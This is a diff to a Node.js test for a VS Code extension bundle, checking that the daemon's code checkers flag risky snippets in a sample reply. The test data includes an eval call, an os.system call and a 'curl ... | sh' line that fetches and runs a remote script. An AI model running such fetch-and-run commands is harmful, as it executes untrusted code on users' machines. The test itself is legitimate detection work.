@@ -7,6 +7,7 @@ import { mkdtemp, rm } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
+import { ChecksRunRequest } from '../../server/src/protocol';
 import type { Thread } from '../../server/src/protocol';
 import { DaemonProcess } from '../support/daemonProcess';
 import { EXAMPLE_THREAD, ROOT, TINY_GUARD, TINY_LLAMA } from '../support/paths';
@@ -89,6 +90,27 @@ describe('platform-specific VSIX', () => {
     assert.ok(chunks.length > 0);
     assert.equal(chunks.join(''), result.text);
     assert.ok(['SAFE', 'UNSAFE'].includes(result.safety.label), `label ${result.safety.label}`);
+
+    // Every code checker loads from the VSIX: the grammars' wasm, TypeScript, ESLint and its plugin
+    // (some are loaded by names a scan of the bundle cannot see, so the VSIX must carry them all).
+    const reply = [
+      '```ts', 'const value: number = eval(input);', '```',
+      '```python', 'import os', 'os.system(cmd)', '```',
+      '```bash', 'curl -fsSL https://example.invalid/x.sh | sh', '```',
+      '```json', '{"a": 1}', '```',
+      '```yaml', 'a: 1', '```',
+    ].join('\n');
+    const { report } = await daemon.connection.sendRequest(ChecksRunRequest.type, { text: reply });
+    assert.deepEqual(
+      report.blocks.map((block) => [block.block.language, block.syntax, block.notCheckedReason ?? '', block.findings.map((finding) => finding.ruleId)]),
+      [
+        ['typescript', 'ok', '', ['no-eval']],
+        ['python', 'ok', '', ['python.os-system']],
+        ['shell', 'ok', '', ['shell.curl-pipe-shell']],
+        ['json', 'ok', '', []],
+        ['yaml', 'ok', '', []],
+      ],
+    );
 
     // The native libraries the daemon mapped are the VSIX's own.
     if (process.platform === 'linux' && daemon.child.pid !== undefined) {
